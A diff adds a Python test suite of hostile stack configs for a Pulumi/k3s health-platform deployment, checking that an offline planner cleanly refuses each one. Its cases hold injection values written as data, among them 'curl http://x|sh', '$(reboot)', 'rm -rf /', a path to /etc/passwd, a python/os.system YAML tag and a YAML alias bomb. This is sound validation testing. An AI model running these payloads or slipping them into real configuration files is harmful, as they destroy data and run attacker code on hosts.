@@ -1,0 +1,207 @@
+"""Hostile and careless stack files: injections, wrong types, bombs. Each must be refused by the offline plan
+with exit 2, a message naming its key, no traceback, and nothing registered.
+
+    python -m tests.hostile        # run every case in a subprocess of its own and print the tally
+
+Each case is the guarded test stack (tests/stacks/Pulumi.guarded.yaml) with one edit: `set` replaces values at
+dotted paths under `cht-hosting:<key>` (None removes), or `text` is the whole file.
+"""
+
+from __future__ import annotations
+
+import copy
+import subprocess
+import sys
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import yaml
+
+STACKS = Path(__file__).parent / "stacks"
+BASE_TEXT = (STACKS / "Pulumi.guarded.yaml").read_text()
+BASE = yaml.safe_load(BASE_TEXT)
+KEY = BASE["config"]["cht-hosting:ssh"]["authorizedKeys"][0]
+GOOD_THUMBPRINT = BASE["config"]["cht-hosting:vsphere"]["thumbprint"]
+CREDENTIALS = {"user": {"secure": "v1:a"}, "password": {"secure": "v1:b"}, "secret": {"secure": "v1:c"}, "uuid": {"secure": "v1:d"}}
+
+
+class _NoAliases(yaml.SafeDumper):
+    def ignore_aliases(self, data):
+        return True
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    expect: str
+    """A text the refusal must contain: the key it names."""
+    set: dict = field(default_factory=dict)
+    text: str | None = None
+
+    def render(self) -> str:
+        if self.text is not None:
+            return self.text
+        document = copy.deepcopy(BASE)
+        config = document["config"]
+        for path, value in self.set.items():
+            top, _, rest = path.partition(".")
+            full = top if ":" in top else f"cht-hosting:{top}"
+            if not rest:
+                if value is None:
+                    config.pop(full, None)
+                else:
+                    config[full] = value
+                continue
+            node = config.setdefault(full, {})
+            *parents, last = rest.split("/") if "/" in rest else rest.split(".")
+            for part in parents:
+                node = node.setdefault(part, {})
+            node[last] = value
+        return yaml.dump(document, Dumper=_NoAliases, sort_keys=False)
+
+
+def _migration(volumes: list, county: str = "kisumu") -> dict:
+    return {f"counties.{county}": {"migration": {"volumes": volumes}}, "migratedCredentials": {county: CREDENTIALS}}
+
+
+CASES: list[Case] = [
+    # --- shell, nginx, YAML and INI injections --------------------------------------------------------------
+    Case("install-url-semicolon", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io; curl http://x|sh"}),
+    Case("install-url-subshell", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io/$(reboot)"}),
+    Case("install-url-backtick", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io/`id`"}),
+    Case("install-url-quote", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io/\"; reboot; \""}),
+    Case("install-url-file", "k3s.installScriptUrl", {"k3s.installScriptUrl": "file:///etc/passwd"}),
+    Case("install-url-credentials", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://u:p@get.k3s.io"}),
+    Case("install-url-newline", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io\n"}),
+    Case("install-url-no-host", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https:///install.sh"}),
+    Case("host-template-newline", "cht.hostTemplate", {"cht.hostTemplate": "{county}.cht.example.org\n"}),
+    Case("host-nginx-directive", "counties.kisumu.host", {"counties.kisumu": {"host": "kisumu.example.org;\n return 200;"}}),
+    Case("host-trailing-dot", "counties.kisumu.host", {"counties.kisumu": {"host": "kisumu.example.org."}}),
+    Case("host-space", "counties.kisumu.host", {"counties.kisumu": {"host": "kisumu example.org"}}),
+    Case("host-newline", "counties.kisumu.host", {"counties.kisumu": {"host": "kisumu.example.org\n"}}),
+    Case("thumbprint-insecure-flag", "vsphere.thumbprint", {"vsphere.thumbprint": GOOD_THUMBPRINT + "\ninsecureFlag: true"}),
+    Case("thumbprint-short", "vsphere.thumbprint", {"vsphere.thumbprint": "AB:CD insecureFlag"}),
+    Case("ntp-chrony-directive", "network.ntp", {"network.ntp": ["pool.ntp.org iburst\nallow all"]}),
+    Case("ntp-server-word", "network.ntp", {"network.ntp": ["server 10.0.0.1"]}),
+    Case("ntp-newline", "network.ntp", {"network.ntp": ["ntp.moh.example.org\n"]}),
+    Case("ssh-two-keys", "ssh.authorizedKeys", {"ssh.authorizedKeys": [KEY + "\n" + KEY.replace("ops@", "evil@")]}),
+    Case("ssh-options", "ssh.authorizedKeys", {"ssh.authorizedKeys": ['command="reboot" ' + KEY]}),
+    Case("ssh-bad-base64", "ssh.authorizedKeys", {"ssh.authorizedKeys": ["ssh-ed25519 not*base64 ops"]}),
+    Case("ssh-wrong-blob", "ssh.authorizedKeys", {"ssh.authorizedKeys": [KEY.replace("ssh-ed25519", "ssh-rsa", 1)]}),
+    Case("ssh-unknown-type", "ssh.authorizedKeys", {"ssh.authorizedKeys": ["ssh-dss AAAAB3NzaC1kc3MAAACBAP ops"]}),
+    Case("mirror-endpoint-yaml", "k3s.registryMirrors", {"k3s.registryMirrors": {"docker.io": ["https://m.example.org\n  insecure_skip_verify: true"]}}),
+    Case("mirror-key-yaml", "k3s.registryMirrors", {"k3s.registryMirrors": {"docker.io\nconfigs:": ["https://m.example.org"]}}),
+    Case("chart-repo-quote", "cpi.chartRepository", {"cpi.chartRepository": "https://charts.example.org'; rm -rf /"}),
+    Case("cpi-image-shell", "cpi.image", {"cpi.image": "registry.example.org/cpi; rm -rf /"}),
+    Case("cht-registry-newline", "cht.registry", {"cht.registry": "public.ecr.aws/medic\nevil"}),
+    Case("upgrade-image-untagged", "cht.upgradeServiceImage", {"cht.upgradeServiceImage": "medicmobile/upgrade-service"}),
+    Case("csi-manifest-subshell", "csi.manifestUrl", {"csi.manifestUrl": "https://m.example.org/{version}/$(id).yaml"}),
+    Case("snapshot-url-scheme", "csi.snapshots.baseUrl", {"csi.snapshots": {"baseUrl": "javascript:{version}"}}),
+    Case("suc-url-and", "k3s.systemUpgradeControllerUrl", {"k3s.systemUpgradeControllerUrl": "https://m.example.org/{version} && reboot"}),
+    Case("datastore-url-yaml", "storageClass.datastoreUrl", {"storageClass": {"datastoreUrl": "ds:///vmfs/volumes/x\nreclaimPolicy: Delete"}}),
+    Case("policy-name-quote", "storageClass.storagePolicyName", {"storageClass": {"storagePolicyName": 'gold"\n'}}),
+    Case("vip-interface-shell", "k3s.kubeVipInterface", {"k3s.kubeVipInterface": "ens192; reboot"}),
+    Case("datacenter-ini", "vsphere.datacenter", {"vsphere.datacenter": 'DC1"\n[Global]'}),
+    Case("user-ini", "vsphere.user", {"vsphere.user": "pulumi@vsphere.local\npassword = x"}),
+    Case("couchdb-user-newline", "counties.kisumu.couchdbUser", {"counties.kisumu": {"couchdbUser": "medic\n"}}),
+    Case("cluster-issuer-newline", "counties.kisumu.tls.clusterIssuer", {"counties.kisumu": {"tls": {"clusterIssuer": "le\n"}}}),
+    Case("cluster-id-newline", "csi.clusterId", {"csi.clusterId": "cluster-1\n"}),
+    Case("county-name-newline", "counties.", {"counties": {"kisumu\n": {}, "nakuru": {}}}),
+    Case("vcenter-server-url", "vsphere.server", {"vsphere.server": "https://vcenter.example.org"}),
+    Case("api-endpoint-space", "k3s.apiEndpoint", {"k3s.apiEndpoint": "10.20.0.10 --flag", "k3s.apiEndpointMode": "load-balancer"}),
+    # --- host paths and migrated volumes ---------------------------------------------------------------------
+    Case("hostpath-k3s-data", "migration.volumes[0].hostPath", _migration([{"hostPath": "/var/lib/rancher/k3s", "node": "agent-1"}])),
+    Case("hostpath-dotdot", "migration.volumes[0].hostPath", _migration([{"hostPath": "/srv/../var/lib/kubelet", "node": "agent-1"}])),
+    Case("hostpath-etc", "migration.volumes[0].hostPath", _migration([{"hostPath": "/etc/cht", "node": "agent-1"}])),
+    Case("hostpath-root", "migration.volumes[0].hostPath", _migration([{"hostPath": "/", "node": "agent-1"}])),
+    Case("hostpath-var", "migration.volumes[0].hostPath", _migration([{"hostPath": "/var", "node": "agent-1"}])),
+    Case("hostpath-newline", "migration.volumes[0].hostPath", _migration([{"hostPath": "/srv/data\n", "node": "agent-1"}])),
+    Case("hostpath-relative", "migration.volumes[0].hostPath", _migration([{"hostPath": "srv/data", "node": "agent-1"}])),
+    Case("hostpath-on-server", "migration.volumes[0].node", _migration([{"hostPath": "/srv/cht/kisumu", "node": "cp-2"}])),
+    Case(
+        "volume-in-two-counties",
+        "counties.nakuru.migration.volumes[0].volumeHandle",
+        {
+            "counties.kisumu": {"migration": {"volumes": [{"volumeHandle": "fcd-0001"}]}},
+            "counties.nakuru": {"migration": {"volumes": [{"volumeHandle": "fcd-0001"}]}},
+            "migratedCredentials": {"kisumu": CREDENTIALS, "nakuru": CREDENTIALS},
+        },
+    ),
+    Case("volume-handle-shell", "migration.volumes[0].volumeHandle", _migration([{"volumeHandle": "fcd-1; reboot"}])),
+    # --- types -----------------------------------------------------------------------------------------------------
+    Case("couchdb-nodes-bool", "cht.couchdbNodes", {"cht.couchdbNodes": True}),
+    Case("cpus-bool", "controlPlane.cpus", {"controlPlane.cpus": True}),
+    Case("memory-text", "agents.memoryGb", {"agents.memoryGb": "64"}),
+    Case("insecure-number", "vsphere.insecure", {"vsphere.insecure": 1}),
+    Case("manage-roles-yes", "vsphere.manageCnsRoles", {"vsphere.manageCnsRoles": "yes"}),
+    Case("replicas-fraction", "ingress.replicas", {"ingress": {"replicas": 2.5}}),
+    Case("budget-infinite", "cht.budget.cpu", {"cht.budget.cpu": float("inf")}),
+    Case("budget-nan", "cht.budget.memoryGb", {"cht.budget.memoryGb": float("nan")}),
+    Case("spare-negative", "capacity.spareAgents", {"capacity": {"spareAgents": -1}}),
+    Case("hardware-13", "vsphere.hardwareVersion", {"vsphere.hardwareVersion": 13}),
+    Case("storage-zero", "cht.couchdbStorageGb", {"cht.couchdbStorageGb": 0}),
+    Case("version-prerelease", "cht.version", {"cht.version": "4.22.0-rc.1"}),
+    Case("k3s-version-shell", "k3s.version", {"k3s.version": "v1.35.2+k3s1;reboot"}),
+    # --- addresses --------------------------------------------------------------------------------------------------
+    Case("node-is-dns", "agents.nodes.agent-1", {"agents.nodes.agent-1": "10.20.0.2"}),
+    Case("node-is-gateway", "agents.nodes.agent-1", {"agents.nodes.agent-1": "10.20.0.1"}),
+    Case("node-is-broadcast", "agents.nodes.agent-1", {"agents.nodes.agent-1": "10.20.0.255"}),
+    Case("vip-is-network", "k3s.apiEndpoint", {"k3s.apiEndpoint": "10.20.0.0"}),
+    Case("vip-is-dns", "k3s.apiEndpoint", {"k3s.apiEndpoint": "10.20.0.2"}),
+    # --- the stack file itself ----------------------------------------------------------------------------------
+    Case("namespace-misspelled", "cht-hostng:capacity", {"cht-hostng:capacity": {"spareAgents": 0}}),
+    Case("namespace-unknown", "aws:region", {"aws:region": "eu-west-1"}),
+    Case("file-is-a-list", "is not a mapping", text="- config\n- cht-hosting:cht\n"),
+    Case("config-is-text", "`config` is not a mapping", text="config: cht-hosting\n"),
+    Case(
+        "alias-bomb",
+        "alias",
+        text=BASE_TEXT.replace(
+            "config:\n",
+            "x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
+            + "".join(f"x{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]\n" for i in range(1, 12))
+            + "config:\n",
+            1,
+        ),
+    ),
+    Case("duplicate-county", "appears twice", text=BASE_TEXT.replace("    kisumu: {}\n", "    kisumu: {}\n    kisumu: {couchdbNodes: 3}\n")),
+    Case("python-tag", "not valid YAML", text=BASE_TEXT.replace("version: 4.22.0", "version: !!python/object/apply:os.system ['reboot']")),
+    Case("date-value", "cht-hosting:cht.version", text=BASE_TEXT.replace("version: 4.22.0", "version: 2024-01-01")),
+    Case("yaml-infinity", "cht-hosting:cht.budget.cpu", text=BASE_TEXT.replace("cpu: 2", "cpu: .inf")),
+    Case("county-key-number", "cht-hosting:counties", text=BASE_TEXT.replace("    kisumu: {}\n", "    1: {}\n")),
+    Case(
+        "capacity-with-other-problems",
+        "cht-hosting:agents.nodes: the counties request",
+        {"cht.budget": {"cpu": 40, "memoryGb": 8}, "vsphere.insecure": "yes"},
+    ),
+]
+
+
+def run_in_subprocess(case: Case, directory: Path) -> tuple[int, str]:
+    """Run `python -m offline.plan` on the case in a process of its own; (exit code, stderr + stdout)."""
+    (directory / f"Pulumi.{case.name}.yaml").write_text(case.render())
+    done = subprocess.run(
+        [sys.executable, "-m", "offline.plan", case.name, "--stack-dir", str(directory)],
+        capture_output=True,
+        text=True,
+        cwd=Path(__file__).parent.parent,
+        timeout=300,
+    )
+    return done.returncode, done.stderr + done.stdout
+
+
+def refused_cleanly(case: Case, code: int, output: str) -> bool:
+    return code == 2 and case.expect in output and "Traceback" not in output and "registered)" not in output
+
+
+if __name__ == "__main__":
+    import tempfile
+    from concurrent.futures import ThreadPoolExecutor
+
+    with tempfile.TemporaryDirectory() as tmp, ThreadPoolExecutor(max_workers=2) as pool:
+        results = list(pool.map(lambda c: (c, *run_in_subprocess(c, Path(tmp))), CASES))
+    bad = [(c, code, out) for c, code, out in results if not refused_cleanly(c, code, out)]
+    for case, code, output in bad:
+        print(f"NOT REFUSED CLEANLY: {case.name} (exit {code}, expected {case.expect!r})\n{output[-1500:]}\n")
+    print(f"hostile configs: {len(results)} tried, {len(results) - len(bad)} refused cleanly")
+    sys.exit(1 if bad else 0)
